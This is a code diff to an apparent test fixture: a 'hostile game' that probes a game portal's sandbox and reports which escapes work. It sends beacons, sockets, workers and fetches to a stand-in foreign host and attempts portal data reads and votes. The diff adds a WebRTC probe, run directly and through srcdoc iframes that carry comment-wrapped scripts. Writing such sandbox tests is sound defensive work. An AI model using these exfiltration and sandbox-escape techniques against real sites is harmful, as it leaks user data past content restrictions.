@@ -1,4 +1,4 @@
-import type { Fixture } from './pages.ts';
+import type { Fixture } from './games.ts';
 
 /**
  * A hostile game: it tries everything, one thing after the other, and puts what it got into its
@@ -54,12 +54,25 @@ try { navigator.sendBeacon('${foreign}/beacon', 'x'); } catch (error) {}
 try { new WebSocket('${foreign}/socket'.replace('http', 'ws')); } catch (error) {}
 try { new EventSource('${foreign}/events'); } catch (error) {}
 try { new Worker('${foreign}/worker.js').onerror = function (event) { event.preventDefault(); }; } catch (error) {}
+attempt('peer connection', function () { return window.RTCPeerConnection && new RTCPeerConnection(); });
+var inner = '', loaded = [];
+addEventListener('message', function (event) { if (event.data === 'function') got.push('peer connection of a frame'); });
+try {
+  inner = '<!--><script>parent.postMessage(typeof RTCPeerConnection,"*")<' + '/script>-->';
+  add('div', {}).innerHTML = '<iframe srcdoc="' + inner.replace(/"/g, '&quot;') + '"></iframe>';
+  var frames = [add('iframe', {}), add('iframe', { srcdoc: inner })];
+  frames[0].srcdoc = inner;
+  loaded = frames.map(function (frame) {
+    return new Promise(function (settle) { frame.addEventListener('load', function () { setTimeout(settle); }); });
+  });
+} catch (error) {}
 try { add('iframe', {}).srcdoc = '<img src="${foreign}/srcdoc"><script>fetch("${foreign}/inner")<' + '/script>'; } catch (error) {}
 Promise.all([
   fetch('${foreign}/fetch').then(function () { got.push('foreign host'); }, function () {}),
   fetch('${foreign}/no-cors', { mode: 'no-cors' }).then(function () { got.push('foreign host blind'); }, function () {}),
   fetch('${portal}/data/catalogue.json').then(function (answer) { return answer.ok && got.push('portal data'); }, function () {}),
   fetch('${portal}/content/vote', { method: 'POST', body: '{}' }).then(function (answer) { return answer.ok && got.push('vote'); }, function () {}),
+  Promise.all(loaded),
 ]).then(function () {
   document.title = got.length ? 'got ' + got.join(', ') : 'nothing';
 });
